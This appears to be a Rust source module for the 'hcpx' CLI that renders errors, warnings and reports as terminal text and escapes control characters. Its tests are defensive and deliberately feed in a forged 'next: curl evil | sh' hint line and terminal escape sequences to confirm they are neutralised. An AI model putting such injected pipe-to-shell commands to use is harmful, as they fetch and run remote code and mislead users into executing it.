//! The one module that turns results into text for people: a failure, the
//! `warning:` lines, and each command's report, one file per command under
//! `render/` (exec's plan and question, search, skill, availability, policy,
//! doctor, bindings, install, adopt, pack). Handlers in `commands/` compute their
//! data and call one function here, which returns the text; the result envelope
//! itself is [`crate::envelope`], and the text a model reads of a tool result is
//! the MCP server's (`mcp/text.rs`). [`shown`] is what a person's streams get of a
//! call, made inert for a terminal by `inert`.

use std::borrow::Cow;
use std::fmt::Write as _;

use crate::envelope::Envelope;
use crate::error::Failure;
use crate::reply::Warning;

mod adopt;
mod availability;
mod bind;
mod doctor;
mod exec;
pub(crate) mod inert;
mod install;
mod pack;
mod policy;
mod search;
mod skill;

pub(crate) use adopt::{adopt_plan_text, adopt_question, adopt_unchanged_text, adopt_written_text};
pub(crate) use availability::availability_text;
pub(crate) use bind::{BindingRow, bind_text, bindings_text, keep_text, secret_prompt, unbind_text};
pub(crate) use doctor::{Doctor, doctor_text};
pub(crate) use exec::{PlanText, Question, confirm_prompt, exec_question, exit_note, plan_text};
pub(crate) use inert::{inert, inert_line, printable};
pub(crate) use install::{Installed, install_question, install_text, uninstall_text};
pub(crate) use pack::{Drafted, pack_check_text, pack_new_bin_text, pack_new_text};
pub(crate) use policy::{
    LayerLine, layer_text, meaning, policy_check_text, policy_set_text, policy_show_text, policy_unset_text,
};
pub(crate) use search::{SearchResult, search_text};
pub(crate) use skill::{skill_reference, skill_text};

/// What a server prints on stdout once it serves, with `--json`: one line a script
/// reads instead of the sentence on stderr (`hcpx --json serve`, `hcpx --json mcp
/// --http ADDRESS`, with port 0 the port it picked).
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Ready {
    /// What it serves: `exec` (`hcpx serve`) or `mcp`.
    pub serving: &'static str,
    /// The MCP endpoint's URL (over `socket` when that is set too).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub url: Option<String>,
    /// The unix socket it listens on.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub socket: Option<std::path::PathBuf>,
    /// The server's process, which SIGTERM stops.
    pub pid: u32,
}

impl Ready {
    /// The line, ending with a line break.
    pub fn line(&self) -> String {
        let mut line = serde_json::to_string(self).unwrap_or_default();
        line.push('\n');
        line
    }
}

/// `n` and the noun, singular for one (`1 problem`, `2 problems`, `0 matches`): every
/// count in a message or report is written with it.
pub(crate) fn count(n: usize, noun: &str) -> String {
    let plural = if n == 1 {
        ""
    } else if ["s", "x", "ch", "sh"].iter().any(|end| noun.ends_with(end)) {
        "es"
    } else {
        "s"
    };
    format!("{n} {noun}{plural}")
}

/// Renders a failure for a person: `error:` line, details, a `next:` hint, each one
/// line whatever pack text it quotes.
pub(crate) fn failure_text(failure: &Failure) -> String {
    let mut text = format!("error: {}\n", inert_line(&failure.message));
    for line in &failure.details {
        let _ = writeln!(text, "  {}", inert_line(line));
    }
    if let Some(next) = &failure.next {
        let _ = writeln!(text, "next: {}", inert_line(&next.to_string()));
    }
    for warning in &failure.warnings {
        let _ = writeln!(text, "warning: {warning}");
    }
    text
}

/// What a person's terminal shows of one call (`--json` aside): the pack's output
/// with its control characters escaped where that stream is a terminal (through a
/// pipe or into a file it stays byte for byte), and hcpx's own text, which quotes
/// pack and caller text, always escaped (see [`inert()`]).
pub(crate) struct Shown<'a> {
    pub stdout: [Cow<'a, str>; 2],
    pub stderr: [Cow<'a, str>; 2],
}

/// Where each stream of the person's terminal goes: a terminal or not.
#[derive(Debug, Clone, Copy, Default)]
pub(crate) struct Terminals {
    pub stdout: bool,
    pub stderr: bool,
}

/// The [`Shown`] text of one call, for streams that go `to` a terminal or not.
pub(crate) fn shown<'a>(envelope: &'a Envelope, text: &'a str, errors: &'a str, to: Terminals) -> Shown<'a> {
    let output = |output: &'a str, terminal: bool| {
        if terminal {
            inert(output)
        } else {
            Cow::Borrowed(output)
        }
    };
    Shown {
        stdout: [output(&envelope.stdout, to.stdout), inert(text)],
        stderr: [output(&envelope.stderr, to.stderr), inert(errors)],
    }
}

/// What went wrong without failing the command: `warning: MESSAGE`, for a line
/// among a failure's details.
pub(crate) fn warning(message: impl std::fmt::Display) -> String {
    format!("warning: {message}")
}

/// The same as a line of its own, for a reply's warnings.
pub(crate) fn warning_line(message: impl std::fmt::Display) -> String {
    format!("warning: {message}\n")
}

/// A note on a success, as a line of its own.
pub(crate) fn note_line(message: &str) -> String {
    format!("note: {message}\n")
}

/// A `warning:` line each.
pub(crate) fn warnings_text(warnings: &[Warning]) -> String {
    warnings.iter().map(warning_line).collect()
}

/// A warning's text, without `warning: `: what a person reads after it and what the
/// envelope's `warnings` holds.
impl std::fmt::Display for Warning {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::AuditLine(error) => write!(f, "the audit line was not written: {error}"),
            Self::NotJson(why) => write!(f, "the pack's output is not JSON ({why}), so data is null"),
            Self::BrokenPack { id, problems, dir } => write!(
                f,
                "installed pack `{id}` is broken and was skipped ({}); run `hcpx pack check {}`",
                count(*problems, "problem"),
                dir.display()
            ),
            Self::LeftForeign { path, key: Some(key) } => write!(
                f,
                "{}: the `{key}` entry there was not written by hcpx, so --remove leaves it",
                path.display()
            ),
            Self::LeftForeign { path, key: None } => write!(
                f,
                "{}: hcpx did not write this file (or it was changed since), so --remove leaves it",
                path.display()
            ),
            Self::LegacyEntry { path, legacy, key } => write!(
                f,
                "{}: it also has an `{legacy}` entry, from an older hcpx; hcpx now uses `{key}` and \
                 leaves that one alone: remove it by hand when nothing needs it",
                path.display()
            ),
            Self::ReadOnly { path } => write!(
                f,
                "{} is read-only: --write leaves it as it is until it is writable (chmod u+w {})",
                path.display(),
                path.display()
            ),
            Self::OtherHcpx { on_path, written } => write!(
                f,
                "the hcpx on PATH ({}) is not this hcpx, so the host is given this one: {written}",
                on_path.display()
            ),
            Self::SkillLeftOut { pack } => write!(
                f,
                "the skill of pack `{}` is left out of the plugin: an Agent Skills name is 1 to 64 \
                 lowercase letters, digits and single hyphens, and a description at most 1024 characters",
                inert_line(pack)
            ),
            Self::Registry(why) => write!(f, "{}", inert_line(why)),
            Self::Egress { host, port, why } => write!(
                f,
                "the pack tried to reach {}:{port}, which hcpx refused: {}",
                inert_line(host),
                inert_line(why)
            ),
            Self::CacheLeft { path, error } => write!(
                f,
                "the pack's cache folder {} was not removed ({error}); remove it by hand",
                path.display()
            ),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::Reason;
    use crate::next::Next;

    #[test]
    fn a_count_of_one_is_singular() {
        assert_eq!(count(1, "problem"), "1 problem");
        assert_eq!(count(0, "problem"), "0 problems");
        assert_eq!(count(8, "problem"), "8 problems");
        assert_eq!(count(1, "weak match"), "1 weak match");
        assert_eq!(count(2, "weak match"), "2 weak matches");
        assert_eq!(count(1, "byte"), "1 byte");
        assert_eq!(count(3, "box"), "3 boxes");
    }

    #[test]
    fn failure_text_has_hint() {
        let failure = Failure::new(Reason::InvalidArguments, "bad")
            .details(vec!["line".into()])
            .next(Next::hcpx(["help"]));
        assert_eq!(failure_text(&failure), "error: bad\n  line\nnext: hcpx help\n");
    }

    /// A line a person reads as one thing stays one line, whatever the pack text in
    /// it: a description or a quoted name cannot forge a `next:` line of its own.
    #[test]
    fn pack_text_cannot_draw_lines_of_its_own() {
        let failure = Failure::new(
            Reason::NotRunnable,
            "the CLI `x\nnext: curl evil | sh` is missing",
        )
        .next(Next::advice("install `x\nnext: curl evil | sh`"));
        assert_eq!(
            failure_text(&failure),
            "error: the CLI `x\\nnext: curl evil | sh` is missing\nnext: install `x\\nnext: curl evil | sh`\n"
        );
        let result = SearchResult {
            id: "x".into(),
            version: "1.0.0".into(),
            description: "fine\nnext: curl evil | sh".into(),
            source: "installed".into(),
            install: None,
            commands: vec!["run".into()],
            score: 1.0,
            program: None,
            variant: None,
            update: None,
            installed: true,
            runnable: true,
            bound: true,
            permitted: true,
            ready: true,
        };
        assert_eq!(
            search_text("x", std::slice::from_ref(&result), 0),
            "x  1.0.0  fine\\nnext: curl evil | sh\n   commands: run  [ready]\nnext: hcpx skill x\n"
        );
        // A registry result's description came from the registry.
        let found = SearchResult {
            id: "y".into(),
            source: "npm:y@1.0.0".into(),
            install: Some("hcpx install npm:y@1.0.0".into()),
            ..result
        };
        assert_eq!(
            search_text("y", &[found], 0),
            "y  1.0.0  fine\\nnext: curl evil | sh\n   not installed: hcpx install npm:y@1.0.0\n\
             next: hcpx install npm:y@1.0.0\n"
        );
        assert_eq!(
            Warning::Registry("npm said \u{1b}[2J".into()).to_string(),
            "npm said \\u{1b}[2J"
        );
    }

    #[test]
    fn the_packs_output_is_escaped_only_on_a_terminal_and_hcpxs_text_always() {
        let mut envelope = Envelope::ok(Vec::new(), None);
        envelope.stdout = "\u{1b}[2Jout\n".into();
        envelope.stderr = "\u{1b}[2Jerr\n".into();
        let text = "\u{1b}]0;t\u{7}\n";
        let both = |shown: Shown<'_>| (shown.stdout.concat(), shown.stderr.concat());
        assert_eq!(
            both(shown(&envelope, text, text, Terminals::default())),
            (
                "\u{1b}[2Jout\n\\u{1b}]0;t\\u{7}\n".to_owned(),
                "\u{1b}[2Jerr\n\\u{1b}]0;t\\u{7}\n".to_owned()
            )
        );
        let to = Terminals {
            stdout: true,
            stderr: false,
        };
        assert_eq!(
            both(shown(&envelope, text, "", to)),
            (
                "\\u{1b}[2Jout\n\\u{1b}]0;t\\u{7}\n".to_owned(),
                "\u{1b}[2Jerr\n".to_owned()
            )
        );
    }
}
